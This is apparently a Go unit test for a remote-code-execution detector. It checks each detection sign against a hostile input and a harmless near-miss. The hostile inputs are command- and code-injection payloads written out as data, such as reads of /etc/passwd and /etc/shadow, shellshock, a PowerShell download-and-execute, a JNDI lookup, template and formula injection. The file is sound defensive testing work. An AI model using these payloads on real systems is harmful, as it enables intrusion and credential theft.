package rce

import (
	"testing"

	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

// scan reads one free value.
func scan(text string, kind point.Kind) (best evidence.Tally) {
	v := point.Value{Data: []byte(text), Classes: point.Classify([]byte(text)), Kind: kind}
	if Gate(&v) {
		Scan(&v, nil, &best)
	}
	return best
}

// TestSigns holds every sign to a value that shows it and to one that nearly does.
func TestSigns(t *testing.T) {
	shown := map[evidence.Stamp]bool{}
	for _, c := range []struct {
		sign      *evidence.Sign
		hit, miss string
	}{
		{&separated, `1;cat /etc/passwd`, `a; catalogue`},
		{&substituted, `$(whoami)`, `$(document)`},
		{&leading, `cat /etc/passwd`, `catalogue of things`},
		{&argument, `1;ls -la /tmp`, `1;lsx -la`},
		{&closed, `1;id`, `1;idx`},
		{&hiddenWord, `1;c'a't /etc/passwd`, `1;cat /etc/passwd`},
		{&fieldSep, `1;cat${IFS}/etc/passwd`, `1;cat /etc/passwd`},
		{&redirection, `1;ls > /tmp/x`, `1;ls`},
		{&shellshock, `() { :;}; /bin/id`, `f() { return; }`},
		{&powershell, `iex (New-Object Net.WebClient).DownloadString('http://x')`, `new object`},
		{&wrapped, `1;sudo cat /etc/shadow`, `1;sudoku`},
		{&hiddenArgument, `1;cat ${HOME:0:1}etc`, `1;cat ${HOME}`},
		{&windowsLoop, `& for /f %i in ('whoami') do echo %i`, `for 5% in cash (net)`},
		{&windowsSlice, `%COMSPEC:~0,1%`, `50% :~ 20%`},
		{&quoteClosed, `x'|echo a b`, `'x'|echo a b`},
		{&nestedCall, `die(md5(1))`, `die(1)`},
		{&gadgetClass, `com.sun.rowset.JdbcRowSetImpl`, `com.example.RowSet`},
		{&codeCall, `system('id')`, `the system (id)`},
		{&includeCall, `include('/etc/passwd')`, `include (all)`},
		{&scriptTag, `<?php echo 1;`, `<?xml version='1.0'?>`},
		{&superglobal, `$_GET['x']`, `$_GETTER`},
		{&javaPath, `${T(java.lang.Runtime).getRuntime()}`, `the java language`},
		{&jndi, `${${lower:j}ndi:ldap://x}`, `${name}`},
		{&serialized, `O:8:"stdClass":0:{}`, `O: 8 items`},
		{&prototype, `a[__proto__][x]`, `a[proto][x]`},
		{&option, `--upload-pack=touch x`, `--upload=photo.jpg`},
		{&formula, `=cmd|' /C calc'!A0`, `=A1|B1!`},
		{&template, `{{7*7}}`, `{{name}}`},
	} {
		if got := scan(c.hit, point.Text); got.Count(c.sign.Stamp) == 0 {
			t.Errorf("%s: %q shows only %v with %d", c.sign.Name, c.hit, got.Marks[:got.N], got.Score())
		}
		if got := scan(c.miss, point.Text); got.Count(c.sign.Stamp) > 0 {
			t.Errorf("%s: %q shows it: %v", c.sign.Name, c.miss, got.Marks[:got.N])
		}
		shown[c.sign.Stamp] = true
	}
	for _, s := range Signs {
		if !shown[s.Stamp] {
			t.Errorf("no value shows %s", s.Name)
		}
	}
}
